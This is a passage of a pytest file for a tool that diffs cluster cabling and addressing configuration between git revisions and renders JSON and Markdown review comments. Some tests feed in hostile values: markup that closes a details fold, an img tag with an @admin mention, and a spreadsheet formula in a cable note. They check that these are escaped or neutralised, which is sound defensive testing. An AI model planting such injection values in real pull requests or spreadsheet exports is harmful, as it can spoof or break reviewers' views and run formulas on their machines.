    "addresses",
    "cables",
    "labels_to_reprint",
    "label_commands",
    "renumbered_nothing",
    "firmware",
    "fabric",
    "routes",
    "artifacts",
    "touched",
    "identity",
    "parts",
    "rollouts",
}


def _lines_changed(old: bytes, new: bytes) -> tuple[int | None, int | None]:
    """A file's lines added and removed the plain way: every line split and compared."""
    try:
        before, after = old.decode().splitlines(), new.decode().splitlines()
    except UnicodeDecodeError:
        return None, None
    head = 0
    while head < min(len(before), len(after)) and before[head] == after[head]:
        head += 1
    tail = 0
    while tail < min(len(before), len(after)) - head and before[-1 - tail] == after[-1 - tail]:
        tail += 1
    matcher = difflib.SequenceMatcher(
        None, before[head : len(before) - tail], after[head : len(after) - tail]
    )
    changed = [op for op in matcher.get_opcodes() if op[0] != "equal"]
    return sum(j2 - j1 for *_, j1, j2 in changed), sum(i2 - i1 for _, i1, i2, _, _ in changed)


@pytest.mark.parametrize("block", [2, 1 << 16])
def test_a_changed_files_lines_are_counted_as_line_by_line(
    block: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The ends a file keeps are found in bytes (`_middle`): the counts are the line-by-line
    ones for random edits of text with CR LF, bare CR, two-byte characters and bytes that
    are not UTF-8, with blocks of two bytes (the halving on every step) and the real ones."""
    monkeypatch.setattr(diff, "_BLOCK", block)
    rng = random.Random(7)
    pieces = ["a", "b", "é", "\n", "\n", "\r", "\r\n"]
    for _ in range(3000):
        old = [rng.choice(pieces) for _ in range(rng.randint(0, 14))]
        new = list(old)
        for _ in range(rng.randint(1, 3)):
            at = rng.randint(0, len(new))
            if rng.random() < 0.5 or not new:
                new.insert(at, rng.choice(pieces))
            else:
                del new[min(at, len(new) - 1)]
        a, b = "".join(old).encode(), "".join(new).encode() + b"\xff" * (rng.random() < 0.05)
        found = diff._file_diff("f", a, b)
        assert (found.lines_added, found.lines_removed) == _lines_changed(a, b), (a, b)


def test_json_has_the_fixed_schema_and_is_deterministic(sides: dict[str, Side]) -> None:
    for tag in ("base", "renumber", "broken-yaml"):
        text = diff.to_json(compare(sides, tag))
        assert text == diff.to_json(compare(sides, tag))
        body = json.loads(text)
        assert body["schema"] == 2 and set(body) == JSON_KEYS
    body = json.loads(diff.to_json(compare(sides, "renumber")))
    assert body["risks"][0]["kind"] == "address-renumbered"
    assert body["addresses"][0]["device"] == RENUMBERED[0]
    failed = json.loads(diff.to_json(compare(sides, "broken-yaml")))
    assert failed["compiles"] is False
    assert failed["head"]["errors"][0]["rule"] == "yaml-syntax"
    assert failed["head"]["errors"][0]["location"]["file"] == "cluster/racks/r03.yaml"
    # A cable's ends are objects, as the schema at the top of compiler/diff.py gives them.
    moved = json.loads(diff.to_json(compare(sides, "move-spare")))["cables"]["changed"][0]
    assert set(moved["new"]["b"]) == {"device", "port", "rack", "u", "location", "face"}
    assert moved["new"]["b"]["u"] == moved["old"]["b"]["u"] + 8


def test_markdown_starts_with_the_marker_and_summary_and_fits_a_comment(
    sides: dict[str, Side],
) -> None:
    report = compare(sides, "remove-rack")
    markdown = review.to_markdown(report)
    assert markdown.startswith(review.MARKER + "\n")
    assert len(markdown) <= review.MARKDOWN_LIMIT
    # Risks and counts first, details folded below them.
    assert markdown.index("⚠️ **address-removed**") < markdown.index("| change | count |")
    assert markdown.index("| change | count |") < markdown.index("<details>")
    assert markdown.count("<details>") == markdown.count("</details>")
    # A tight limit cuts the lists, not the summary.
    short = review.to_markdown(report, limit=4000)
    assert len(short) <= 4000 and "more" in short
    assert short.startswith(review.MARKER) and "⚠️ **address-removed**" in short


@pytest.mark.realtool
def test_markdown_escapes_text_from_the_pull_request(sides: dict[str, Side]) -> None:
    base = _with_files(sides["base"], {"opensm/x.conf": "routing_engine ftree\n"})
    head = _with_files(
        sides["base"], {"opensm/x.conf": "routing_engine <b>x</b>|y ``` </details>\n"}
    )
    markdown = review.to_markdown(diff.diff(base, head))
    # The file's text is a code span: a renderer shows the tags as text and closes no fold.
    assert "| `routing_engine` | `ftree` | ````<b>x</b>\\|y ``` </details>```` |" in markdown
    html = _gfm(markdown)
    assert "<b>" not in html and "&lt;/details&gt;" in html
    assert html.count("<details>") == html.count("</details>")


def _gfm(markdown: str) -> str:
    """HTML as GitHub renders a comment: cmark-gfm with the extensions GitHub enables."""
    cmark = require_tool("cmark-gfm")
    return subprocess.run(
        [cmark, "-e", "table", "-e", "autolink", "-e", "tagfilter", "-e", "strikethrough"],
        input=markdown,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.mark.realtool
def test_a_cable_note_is_shown_as_code_not_rendered(sides: dict[str, Side]) -> None:
    """GitHub's renderer (cmark-gfm, with the extensions GitHub enables) makes no image, link
    or markup of a note; the mention stays inside code, where GitHub notifies no one."""
    report = compare(sides, "hostile-note")
    [changed] = report.cables.changed
    assert [c.key for c in changed.changes] == ["note"]
    html = _gfm(review.to_markdown(report))
    assert "<img" not in html and "203.0.113.9" in html
    assert '<a href="http' not in html and "<b>" not in html
    [cell] = re.findall(r"<td><code>note: .*?</code></td>", html)
    assert "@admin" in cell and "&lt;img src=x&gt;" in cell and "| pipe" in cell
    assert html.count("@admin") == 1


def test_a_formula_in_a_note_is_text_in_the_cable_schedule(sides: dict[str, Side]) -> None:
    head = sides["hostile-note"].compiled
    assert head is not None
    rows = list(csv.DictReader(io.StringIO(head.files["fabric/cables.csv"].decode())))
    [row] = [r for r in rows if r["note"]]
    assert row["note"] == "'" + HOSTILE_NOTE  # OWASP: a leading quote, read as text


# --- the command ----------------------------------------------------------------------------


def test_cli_writes_both_reports_and_leaves_the_working_tree_alone(
    scratch: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # An uncommitted edit must neither leak into the diff nor be lost by it.
    site = scratch / "cluster" / "site.yaml"
    original = site.read_text()
    site.write_text(original.replace("domain:", "# dirty\ndomain:"))
    head_before = git(scratch, "rev-parse", "HEAD")
    try:
        md, js = tmp_path / "out" / "diff.md", tmp_path / "out" / "diff.json"
        code = main(
            [
                "-C",
                str(scratch),
                "diff",
                "base",
                "renumber",
                "--markdown",
                str(md),
                "--json",
                str(js),
            ]
        )
        assert code == 0
        assert capsys.readouterr().out == ""
        assert md.read_text().startswith(review.MARKER)
        assert "address-renumbered" in md.read_text()
        assert json.loads(js.read_text())["risks"][0]["kind"] == "address-renumbered"
        assert git(scratch, "status", "--porcelain") == " M cluster/site.yaml"
        assert git(scratch, "rev-parse", "HEAD") == head_before
    finally:
        site.write_text(original)
    assert git(scratch, "status", "--porcelain") == ""


def test_cli_prints_markdown_and_exits_0_with_changes(
    scratch: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["-C", str(scratch), "diff", "base", "bios-bump", "--share-limit", "100"]) == 0
    out = capsys.readouterr().out
    assert out.startswith(review.MARKER) and "| `hgx-a100` | `bios` |" in out
    assert "large-change" not in out
    assert git(scratch, "status", "--porcelain") == ""


def test_cli_exits_2_with_located_errors_and_no_traceback(
    scratch: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    md, js = tmp_path / "diff.md", tmp_path / "diff.json"
    code = main(
        [
            "-C",
            str(scratch),
            "diff",
            "base",
            "broken-yaml",
            "--markdown",
            str(md),
            "--json",
            str(js),
        ]
    )
    assert code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "cluster/racks/r03.yaml:" in err and "yaml-syntax" in err
    assert "HEAD does not compile" in md.read_text()
    assert json.loads(js.read_text())["head"]["compiles"] is False
    assert main(["-C", str(scratch), "diff", "base", "no-such-revision"]) == 2
    err = capsys.readouterr().err
    assert "'no-such-revision' is not a commit" in err and "Traceback" not in err
    assert main(["-C", str(tmp_path), "diff", "base", "renumber"]) == 2
    assert "not in a git repository" in capsys.readouterr().err


def test_cli_works_in_a_shallow_clone_once_the_base_is_fetched(
    scratch: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base, head = git(scratch, "rev-parse", "base"), git(scratch, "rev-parse", "renumber")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "1", "--branch", "renumber", scratch.as_uri(), "clone")
    assert git(clone, "rev-parse", "--is-shallow-repository") == "true"
    assert main(["-C", str(clone), "diff", base, head]) == 2  # the base is not here yet
    assert "fetch it first" in capsys.readouterr().err
    git(clone, "fetch", "-q", "--depth", "1", "origin", base)
    assert main(["-C", str(clone), "diff", base, head]) == 0
    assert "address-renumbered" in capsys.readouterr().out
    assert git(clone, "status", "--porcelain") == ""


def test_cli_reads_cluster_beside_the_given_folder_in_a_larger_repository(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    top = tmp_path / "mono"
    shutil.copytree(REPO / "cluster", top / "site-a" / "cluster")
    git(tmp_path, "init", "-q", str(top))
    git(top, "add", ".")
    git(top, "commit", "-q", "-m", "base")
    sm_priority(top / "site-a" / "cluster")
    git(top, "commit", "-q", "-a", "-m", "sm")
    assert main(["-C", str(top / "site-a"), "diff", "HEAD~1", "HEAD"]) == 0
    assert "sm-priority" in capsys.readouterr().out
    assert main(["-C", str(top), "diff", "HEAD~1", "HEAD"]) == 2
    assert "no cluster/ folder" in capsys.readouterr().out


def test_cli_compares_with_the_default_branch_git_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(REPO / "cluster", tmp_path / "cluster")
    git(tmp_path, "init", "-q", "-b", "master")
    git(tmp_path, "add", "cluster")
    git(tmp_path, "commit", "-q", "-m", "base")
    git(tmp_path, "checkout", "-q", "-b", "topic")
    move_spare(tmp_path / "cluster")
    git(tmp_path, "commit", "-q", "-am", "move")
    assert gitsource.default_branch(tmp_path) == "master"
    assert main(["-C", str(tmp_path), "diff", "--json", str(tmp_path / "d.json")]) == 0
    body = json.loads((tmp_path / "d.json").read_text())
    assert body["base"]["ref"] == "master" and body["head"]["ref"] == "HEAD"
    assert [m["name"] for m in body["nodes"]["moved"]] == ["gpu125"]
    # Naming a branch that is not there says which one is, not "a shallow clone".
    capsys.readouterr()
    assert main(["-C", str(tmp_path), "diff", "main", "HEAD"]) == 2
    err = capsys.readouterr().err
    assert "the default branch here is 'master'" in err and "shallow" not in err
    # A clone knows its origin's default branch: the branch the origin has checked out.
    git(tmp_path, "checkout", "-q", "master")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--branch", "topic", str(tmp_path), str(clone))
    assert gitsource.default_branch(clone) == "origin/master"
